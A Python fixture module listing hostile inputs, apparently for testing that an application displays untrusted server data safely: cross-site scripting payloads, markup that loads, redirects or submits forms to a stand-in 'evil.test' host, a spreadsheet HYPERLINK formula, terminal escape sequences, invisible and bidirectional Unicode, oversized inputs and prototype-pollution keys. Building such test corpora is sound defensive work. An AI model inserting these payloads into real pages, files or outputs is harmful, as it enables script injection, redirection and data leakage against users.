"""What a server might send to run, to hide, to break or to flood."""

from __future__ import annotations

from typing import Any


def nested(depth: int) -> Any:
    """Lists in lists."""
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value


_MARKUP = [
    "<script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "</summary></details><svg onload=alert(1)>",
    "</div></div></div><iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>here</a>",
    '" onmouseover="alert(1)',
    "' style='background:url(http://evil)'",
    '"><input autofocus onfocus=alert(1)>',
    "<style>* { display: none }</style>",
    "<link rel=stylesheet href=//evil>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<base href=//evil>",
    "<form action=//evil><button>OK</button></form>",
    "<object data=//evil>",
    "<embed src=//evil>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- <script> -->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<?xml version='1.0'?><x/>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&amp;lt;b&amp;gt;",
    "<div data-ccm='0123456789abcdef'><div></div></div>",
    "<textarea><title><noscript><plaintext><xmp>",
    "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
    "<",
    "&",
    "`${alert(1)}`",
    "{{7*7}} {%raw%} $x$ \\(x\\) [x](javascript:alert(1))",
    "<svg><style><a href=http://evil>x</a></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>y</text></a></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><rect width=9 height=9 /></a></svg>",
    "<img src=x:x srcset='http://evil/a 1x' loading=eager onerror=alert(1)>",
    "<video poster=http://evil><source src=http://evil onerror=alert(1)></video>",
    "<a href=http://evil target=_top ping=http://evil>out</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    "<style>@import 'http://evil'; body { background: url(http://evil) }</style>",
    "<div style='background:url(http://evil);position:fixed;inset:0'>over</div>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<table background=http://evil><tr><td>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><img src=http://evil></noscript>",
    "![x](http://evil/x.png) [y](http://evil) <http://evil> [z]: http://evil",
    "[a](java\tscript:alert(1)) ![b](x' onerror='alert(1))",
    "# h\n<script>alert(1)</script>\n```html\n</code></pre><script>alert(1)</script>\n```",
    'a,b\n<script>alert(1)</script>,=HYPERLINK("http://evil")\n',
    "$\\href{javascript:alert(1)}{x}$ \\unicode{x202e} $$\\require{html}$$",
    '{"cells": [{"cell_type": "markdown", "source": "<script>alert(1)</script>"}]}',
    '{"cells": [{"outputs": [{"data": {"text/html": "<script>alert(1)</script><b>x</b>"}}]}]}',
    "<img src=x onerror='top.ran=1'>one\n\n<img src=x onerror='top.ran=1'>\n\n[x](javascript:top.ran=1)",
    "one\n\n![x](http://evil.test/x.png)\n\n[x](javascript:alert(1)) <javascript:alert(1)>\n\n    code",
    "one\n \t\n# Headline\n\n- list\n\n```\n</div></div></div><script>alert(1)</script>\n```\n\n<svg onload=alert(1)>",
    "from $5 <img src=x onerror=alert(1)> to $6 \\begin{a}<script>alert(1)</script>\\end{a} `x` ~~~",
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>over</dialog>",
    "<button formaction=javascript:alert(1) popovertarget=p>OK</button><div id=p popover>over</div>",
    "<svg><image href=http://evil.test/x.png /><foreignObject><iframe src=//evil></iframe></foreignObject></svg>",
    "<style>@\\69mport 'http://evil.test'; b { background: u\\72l(http://evil.test/b.png) }</style><b>b</b>",
    "<script>top.location = 'http://evil.test'; open('http://evil.test'); fetch('http://evil.test')</script>",
    "<form action=http://evil.test target=_top><input name=x value=y></form><script>document.forms[0].submit()</script>",
    "<a href=http://evil.test target=_blank style='position:fixed;inset:0;z-index:9999'>over all</a>",
    "<img src=//evil.test/a.png><img srcset='//evil.test/b.png 2x'><audio src=//evil.test autoplay></audio>",
]

_TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b[1000A\x1b[2K",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bPq#0;2;0;0;0\x1b\\",
    "\x1b_Gf=24;AAAA\x1b\\",
    "\x1b[",
    "\x1b",
    "\x1b]unfinished",
    "\x1b[\x1b[31mm",
    "\x9b31m\x9d0;t\x9c\x90x\x9c",
    "\x1bc\x1b(0\x1b#8",
    "\x1b[38;2;255;255;255;48;2;255;255;255mwhite on white\x1b[0m \x1b[8mconcealed",
    "\x1b[38;5;999999999m\x1b[38;2m\x1b[38;5m\x1b[;;;;m\x1b[31:4:5mx",
    "sk-01234\x1b[31m56789\x1b[0mabcdefghij",
    "50 %\r51 %\r\n52 %",
    "a\x08\x08b\x7f\x07\x00c\x0b\x0c",
    "\x85\xa0\xad",
]

_UNSEEN = [
    "exe.\u202egpj",
    "\u2066\u2067\u2068x\u2069\u202a\u202b\u202c\u202d",
    "\u200e\u200f\u061c",
    "a\u200bb\ufeffc\u2060d",
    "one\u2028two\u2029three",
    "\U000e0001\U000e0041\U000e007f",
    "\ufff9a\ufffab\ufffb",
    "\ud800",
    "\udfff\ud83d",
    "\U0010ffff\ufffe",
    "e" + "\u0301" * 500,
    "\u0e2d" + "\u0e49\u0e47" * 200 + "\u0416" + "\u0488\u20dd" * 200,
    "\u05e9\u05dc\u05d5\u05dd (1) \u0639\u0631\u0628\u064a 23",
]

_FLOODS: list[Any] = [
    "x" * 60_000,
    "<" * 60_000,
    "\n" * 60_000,
    "\u202e" * 60_000,
    {str(number): number for number in range(5000)},
    [[{"a": "<" * 500, "b": list(range(300))} for _ in range(40)] for _ in range(30)],
    [{f"{column}{'<' * 100}": "<" * 5000 for column in range(30)} for _ in range(30)],
    {"x" * 10_000: {"<" * 10_000: "&" * 10_000}},
    nested(400),
]

_OTHER: list[Any] = [
    None,
    True,
    -0.0,
    float("inf"),
    float("nan"),
    10**4000,
    [],
    {},
    [[]],
    [{}],
    "",
    {"event": "<b>", "id": None},
    {"api_key": "sk-0123456789abcdefghij", "x": "key sk-0123456789abcdefghij."},
    {"constructor": 1, "__proto__": {"x": 1}, "": ""},
]

VALUES = {
    f"{number}": value for number, value in enumerate([*_MARKUP, *_TERMINAL, *_UNSEEN, *_FLOODS, *_OTHER])
}

SMALL = {name: value for name, value in VALUES.items() if len(str(value)) < 2000}
"""Those that flood nothing, for pages that hold many at once."""
